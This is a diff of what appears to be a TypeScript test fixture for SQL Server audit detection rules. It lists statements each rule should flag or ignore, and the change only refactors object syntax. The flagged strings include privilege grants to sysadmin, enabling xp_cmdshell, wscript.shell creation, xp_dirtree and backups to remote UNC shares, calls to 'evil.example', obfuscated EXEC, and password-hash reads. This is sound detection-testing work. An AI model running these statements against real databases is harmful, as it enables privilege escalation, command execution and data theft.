@@ -14,7 +14,8 @@ const bare = (actionId: string, classType?: string) => ({
 
 export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
   {
-    ...{ rule: 10, event: bare('APRL', 'SG') },
+    rule: 10,
+    event: bare('APRL', 'SG'),
     finds: [
       'ALTER SERVER ROLE [sysadmin] ADD MEMBER [eve]',
       "exec sp_addsrvrolemember  N'eve' ,  N'sysadmin'",
@@ -26,12 +27,14 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     ],
   },
   {
-    ...{ rule: 11, event: bare('APRL', 'RL') },
+    rule: 11,
+    event: bare('APRL', 'RL'),
     finds: ['alter role\n[db_owner] add member [eve]', "EXEC sp_addrolemember N'db_owner', N'eve'"],
     leaves: ['ALTER ROLE db_datareader ADD MEMBER db_owner'],
   },
   {
-    ...{ rule: 15, event: bare('G', 'SR') },
+    rule: 15,
+    event: bare('G', 'SR'),
     finds: [
       'grant control   server to [eve]',
       'GRANT\r\nCONTROL\r\n\tSERVER TO [eve]',
@@ -42,7 +45,8 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     leaves: ['GRANT VIEW SERVER STATE TO mon', 'GRANT CONNECT SQL TO bob', 'GRANT VIEW ANY DATABASE TO bob'],
   },
   {
-    ...{ rule: 16, event: bare('G', 'U') },
+    rule: 16,
+    event: bare('G', 'U'),
     finds: [
       'GRANT SELECT ON t TO "public"',
       'GRANT SELECT ON t\nTO\n\tPUBLIC;',
@@ -60,7 +64,8 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     ],
   },
   {
-    ...{ rule: 19, event: bare('AL', 'DB') },
+    rule: 19,
+    event: bare('AL', 'DB'),
     finds: [
       'ALTER DATABASE x SET TRUSTWORTHY\nON WITH ROLLBACK IMMEDIATE',
       'ALTER DATABASE x SET TRUSTWORTHY/**/ON',
@@ -68,12 +73,14 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     leaves: ['ALTER DATABASE x SET TRUSTWORTHY OFF', 'ALTER DATABASE TrustworthyDb SET ONLINE'],
   },
   {
-    ...{ rule: 20, event: bare('IMP', 'LX') },
+    rule: 20,
+    event: bare('IMP', 'LX'),
     finds: ["EXECUTE AS LOGIN = 'sa'", "exec as login=N'CORP\\SqlAdmin'", "EXECUTE AS LOGIN = 'svc_dba'"],
     leaves: ["EXECUTE AS LOGIN = 'feedback'", "EXECUTE AS LOGIN = 'sales'"],
   },
   {
-    ...{ rule: 22, event: bare('EX') },
+    rule: 22,
+    event: bare('EX'),
     finds: [
       'EXECUTE master.dbo.XP_CMDSHELL\n\t@command',
       "DECLARE @r int; EXEC @r = xp_cmdshell 'x'",
@@ -90,7 +97,8 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     ],
   },
   {
-    ...{ rule: 23, event: bare('EX') },
+    rule: 23,
+    event: bare('EX'),
     finds: [
       "exec  sp_configure   N'xp_cmdshell' ,  1 ; reconfigure",
       "EXEC [sys].[sp_configure] 'Ole Automation Procedures', 1",
@@ -113,7 +121,8 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     ],
   },
   {
-    ...{ rule: 26, event: bare('EX') },
+    rule: 26,
+    event: bare('EX'),
     finds: [
       "EXEC sp_OACreate 'wscript.shell', @o OUT",
       "exec master..xp_dirtree '\\\\203.0.113.9\\x'",
@@ -122,12 +131,14 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     leaves: ['EXEC dbo.xp_regional_report', 'EXEC dbo.mysp_oad', 'EXEC sp_who2'],
   },
   {
-    ...{ rule: 28, event: bare('EX') },
+    rule: 28,
+    event: bare('EX'),
     finds: ["EXEC msdb.dbo.sp_add_job @job_name='x'", 'exec [msdb]..[sp_add_jobstep] @job_id=@j'],
     leaves: ["EXEC msdb.dbo.sp_start_job 'x'", 'EXEC msdb.dbo.sp_add_jobserver @job_id=1'],
   },
   {
-    ...{ rule: 29, event: bare('EX') },
+    rule: 29,
+    event: bare('EX'),
     finds: [
       "SELECT * FROM OPENQUERY ([LNK],'select 1')",
       "EXEC dbo.fetch 'http://evil.example/x'",
@@ -142,12 +153,14 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     ],
   },
   {
-    ...{ rule: 29, event: bare('IN') },
+    rule: 29,
+    event: bare('IN'),
     finds: ["INSERT t SELECT * FROM OPENROWSET('SQLNCLI','server=evil','select 1')"],
     leaves: ["INSERT dbo.Links VALUES('http://www.example')"],
   },
   {
-    ...{ rule: 31, event: bare('EX') },
+    rule: 31,
+    event: bare('EX'),
     finds: [
       'EXEC (CHAR(83)+CHAR(69)+CHAR(76))',
       'exec  ( char( 83 ) + char(69)+\nchar(76) )',
@@ -166,7 +179,8 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     ],
   },
   {
-    ...{ rule: 32, event: bare('AL') },
+    rule: 32,
+    event: bare('AL'),
     finds: [
       'TRUNCATE   TABLE\n dbo.Orders',
       'TRUNCATE/**/TABLE [dbo].[My Orders]',
@@ -179,12 +193,14 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     ],
   },
   {
-    ...{ rule: 32, event: bare('TRUN') },
+    rule: 32,
+    event: bare('TRUN'),
     finds: ['TRUNCATE TABLE dbo.Orders'],
     leaves: ['TRUNCATE TABLE tempdb..#t'],
   },
   {
-    ...{ rule: 35, event: bare('BA', 'DB') },
+    rule: 35,
+    event: bare('BA', 'DB'),
     finds: [
       "BACKUP DATABASE x TO\nDISK\n=\n'\\\\e\\x'",
       "BACKUP DATABASE x TO DISK/**/=/**/N'\\\\e\\x'",
@@ -194,7 +210,8 @@ export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
     leaves: ["BACKUP DATABASE x TO DISK = N'D:\\\\b\\x.bak'", 'BACKUP DATABASE x TO dev'],
   },
   {
-    ...{ rule: 36, event: bare('SL') },
+    rule: 36,
+    event: bare('SL'),
     finds: [
       'SELECT name, password_hash FROM [sys].[sql_logins]',
       'SELECT * FROM master . sys . sql_logins',
